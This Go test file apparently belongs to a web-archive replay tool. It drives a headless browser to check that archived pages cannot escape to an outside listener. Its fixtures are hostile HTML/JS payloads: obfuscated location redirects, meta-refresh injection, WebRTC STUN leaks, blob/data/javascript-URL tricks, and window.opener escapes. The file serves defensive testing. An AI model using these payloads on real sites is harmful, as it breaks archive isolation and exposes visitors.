package replay_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"linkstead/archive/replay"
)

// stun asks a server at OUT, as UDP.
const stun = "var p=new RTCPeerConnection({iceServers:[{urls:'stun:OUT'}]});p.createDataChannel('d');p.createOffer().then(o=>p.setLocalDescription(o))"

// lost is a script that nobody scopes: it leads its window to OUT.
const lost = "globalThis['loc'+'ation']='http://OUT/NAME'"

// wayOut is a page that tries to lead a reader out of the archive, or to tell who is there.
type wayOut struct {
	name, html string
	click      bool // where the reader clicks
	script     bool // that our script holds, too, where browsers know no Connection-Allowlist
	sites      bool // … if there is a host a site
}

// tall makes the whole window a place to click on.
const tall = `<!DOCTYPE html><style>body{margin:0;height:600px}iframe{width:800px;height:600px;border:0}a{display:block;height:600px}</style>`

var waysOut = []wayOut{
	{name: "location", html: `<script>` + lost + `</script>`, sites: true},
	{name: "meta", html: `<script>document.write('<me','ta http-equiv=refresh content="0;url=http://OUT/NAME">')</script>`, sites: true},
	{name: "peer", html: `<script>` + stun + `</script>`, script: true},
	{name: "data-peer", html: `<iframe src="data:text/html,<script>` + stun + `</script>"></iframe>`},
	{name: "preconnect", html: `<script>var l=document.createElement("link");l.rel="preconnect";l["hr"+"ef"]="http://OUT";document.head.append(l)</script>`, script: true},
	{name: "data-preconnect", html: `<iframe src="data:text/html,<link rel=preconnect href=http://OUT>"></iframe>`},
	{name: "data-top", html: tall + `<iframe src="data:text/html,<body style=margin:0><a target=_top href='http://OUT/NAME' style='display:block;height:600px'>x</a>"></iframe>`, click: true},
	{name: "data-blank", html: tall + `<iframe src="data:text/html,<body style=margin:0><a target=_blank href='http://OUT/NAME' style='display:block;height:600px'>x</a>"></iframe>`, click: true},
	{name: "blob", html: `<script>location.href=URL.createObjectURL(new Blob(["<script>` + lost + `<\/script>"],{type:"text/html"}))</script>`, sites: true},
	{name: "blob-meta", html: `<script>location.href=URL.createObjectURL(new Blob(["<meta http-equiv=refresh content='0;url=http://OUT/NAME'>"],{type:"text/html"}))</script>`, script: true},
	{name: "blob-drawing", html: `<script>location.href=URL.createObjectURL(new Blob(["<svg xmlns='http://www.w3.org/2000/svg' onload=\"` + lost + `\"/>"],{type:"image/svg+xml"}))</script>`, sites: true},
	{name: "blob-entity", html: `<script>location.href=URL.createObjectURL(new Blob(["<!DOCTYPE r [<!ENTITY e \"<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=http://OUT/NAME'/>\">]><r>&e;</r>"],{type:"text/xml"}))</script>`, script: true},
	{name: "javascript", html: `<script>location.href="javascript:'<meta http-equiv=refresh content=\"0;url=http://OUT/NAME\">'"</script>`},
	{name: "javascript-computed", html: `<script>globalThis["loc"+"ation"].href="javascript:'<script>globalThis[\"loc\"+\"ation\"]=\"http://OUT/NAME\"<\/script>'"</script>`},
	{name: "opener", html: tall + `<a target=x href="http://other.test/opener">x</a>`, click: true},
	{name: "open", html: tall + `<body onclick="window.open('http://other.test/opener')">x`, click: true},
	{name: "open-write", html: tall + `<body onclick="W=window.open();W.document.write('<script>globalThis[\'loc\'+\'ation\']=\'http://OUT/NAME\'</scr'+'ipt>')">x`, click: true},
	{name: "open-eval", html: tall + `<body onclick="W=window.open();W.eval('globalThis[\'loc\'+\'ation\']=\'http://OUT/NAME\'')">x`, click: true},
	{name: "frame-top", html: tall + `<iframe src="http://other.test/top"></iframe>`, click: true},
}

// blobFrame is no way out: a page that makes another, with what a page has.
const blobFrame = `<!DOCTYPE html><body><script>onmessage=(e)=>{self.told=e.data};var f=document.createElement("iframe");
f.src=URL.createObjectURL(new Blob(["<!DOCTYPE html><img src='http://cdn.test/p.gif' onload='parent.postMessage([document.compatMode,this.naturalWidth,this.src,origin].join(),\"*\")'>"],{type:"text/html"}));
document.body.append(f)</script>`

// TestNoWayOut leads a browser to pages that want it out: by computed names, in documents that have none of our script. A listener
// outside must hear nothing: where the browser obeys Connection-Allowlist, without our script; where it doesn't, with it.
func TestNoWayOut(t *testing.T) {
	inModes(t, func(t *testing.T, mode replay.Mode) {
		outside := listen(t)
		a := newArchive(t)
		a.handler.Mode = mode
		for _, w := range append(slices.Clone(waysOut), wayOut{name: "last", html: "<title>last</title>"}) {
			a.page("http://hostile.test/"+w.name, "text/html", strings.NewReplacer("OUT", outside.address, "NAME", w.name).Replace(w.html))
		}
		a.page("http://other.test/opener", "text/html", `<script>setTimeout(()=>{opener["loc"+"ation"]="http://`+outside.address+`/opener"},100)</script>`)
		a.page("http://hostile.test/blob-frame", "text/html", blobFrame)
		a.page("http://cdn.test/p.gif", "image/gif", pixel)
		a.page("http://other.test/top", "text/html", tall+`<body onclick="top['loc'+'ation']='http://`+outside.address+`/frame-top'">x`)
		known := true
		b := browseBy(t, a, func(next http.Handler) http.Handler {
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if !known {
					w = without{w, "Connection-Allowlist"}
				}
				next.ServeHTTP(w, r)
			})
		})
		listen(t).hears(b)
		blocked := network.SetBlockedURLsParams{URLPatterns: []*network.BlockPattern{{URLPattern: "*://*:*/web/-/shim-*", Block: true}}}
		call(b, network.SetBlockedURLs, blocked)
		b.leave(outside, waysOut)
		known = false
		call(b, network.SetBlockedURLs, network.SetBlockedURLsParams{})
		call(b, network.ClearBrowserCache, cdp.Empty{})
		b.open("http://hostile.test/blob-frame")
		if err := b.poll("self.told === 'CSS1Compat,1,http://cdn.test/p.gif,http://hostile.test'"); err != nil {
			t.Errorf("a page in a blob: %v, %s", err, b.run("return self.told"))
		}
		b.leave(outside, slices.DeleteFunc(slices.Clone(waysOut), func(w wayOut) bool { return !w.script && (!w.sites || mode != replay.PerSite) }))
	})
}

// leave tries ways out, and tells which let a reader out.
func (b *browser) leave(outside *listener, ways []wayOut) {
	b.t.Helper()
	for _, w := range ways {
		b.show(b.origin + "/web/" + stamp + "/http://hostile.test/" + w.name)
		b.shown()
		if w.click {
			ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
			_ = chromedp.Do(ctx, chromedp.MouseClickXY(200, 300)) // a page that is gone can't be clicked
			cancel()
		}
		time.Sleep(500 * time.Millisecond) // for what comes late: more can only find more
		b.single()
		for _, who := range outside.came() {
			b.t.Errorf("%s: came out: %q", w.name, who)
		}
		outside.forget()
	}
	b.show(b.origin + "/web/" + stamp + "/http://hostile.test/last")
	if err := b.poll("document.title === 'last'"); err != nil {
		b.t.Errorf("the last page was not shown: %v", err)
	}
}

// show leads the browser to an address, wherever it ends up.
func (b *browser) show(url string) {
	b.t.Helper()
	call(b, page.Navigate, page.NavigateParams{URL: url})
}

// shown waits until a page is there, unless it is gone already, or hangs for what it tried.
func (b *browser) shown() {
	ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
	defer cancel()
	for ctx.Err() == nil {
		if ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool]("document.readyState === 'complete'")); ok || err != nil {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// single closes the windows that a page has opened.
func (b *browser) single() {
	b.t.Helper()
	all, err := chromedp.Targets(b.ctx)
	must(b.t, err)
	own := chromedp.FromContext(b.ctx).Target.TargetID
	for _, i := range all {
		if i.Type == "page" && i.TargetID != own {
			_, _ = chromedp.Call(b.ctx, target.CloseTarget, target.CloseTargetParams{TargetID: i.TargetID}) // it may be gone
		}
	}
}

// hears makes sure that the listener would hear who comes: a page that no archive shows asks for a connection and a peer.
func (l *listener) hears(b *browser) {
	b.t.Helper()
	live := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(strings.ReplaceAll(`<link rel=preconnect href="http://OUT"><script>`+stun+`</script>`, "OUT", l.address)))
	}))
	defer live.Close()
	b.show(live.URL)
	for end := time.Now().Add(patience); ; time.Sleep(50 * time.Millisecond) {
		came := l.came()
		if slices.Contains(came, "") && slices.ContainsFunc(came, func(s string) bool { return s != "" }) {
			break // a connection without a word, and a question by UDP
		}
		if time.Now().After(end) {
			b.t.Fatalf("the listener hears only %q", came)
		}
	}
	b.show("about:blank")
	l.forget()
}

func (l *listener) forget() {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.lines = nil
}

// without leaves out a field of an answer, as a browser does that does not know it.
type without struct {
	http.ResponseWriter
	field string
}

func (w without) WriteHeader(status int) {
	w.Header().Del(w.field)
	w.ResponseWriter.WriteHeader(status)
}

func (w without) Unwrap() http.ResponseWriter { return w.ResponseWriter }
